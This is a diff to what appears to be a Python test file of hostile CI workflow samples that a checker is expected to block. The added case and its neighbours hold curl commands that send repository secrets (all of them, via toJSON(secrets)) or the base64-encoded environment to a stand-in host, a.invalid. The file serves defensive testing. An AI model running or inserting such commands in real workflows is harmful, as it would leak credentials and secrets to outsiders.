@@ -20,6 +20,11 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "two, by their variables": Sample(
             {_PLACE[0]: workflow('curl -F x=$A -F "y=${B}" https://a.invalid', _TWO)}, "block", _PLACE
         ),
+        "all of them, in a variable": Sample(
+            {_PLACE[0]: workflow('curl -d "$A" https://a.invalid', _ONE.replace("secrets.A", "toJSON(secrets)"))},
+            "block",
+            _PLACE,
+        ),
         "the environment, piped": Sample(
             {_PLACE[0]: workflow("env | base64 | curl -s --data-binary @- https://a.invalid", _ONE)}, "block", _PLACE
         ),
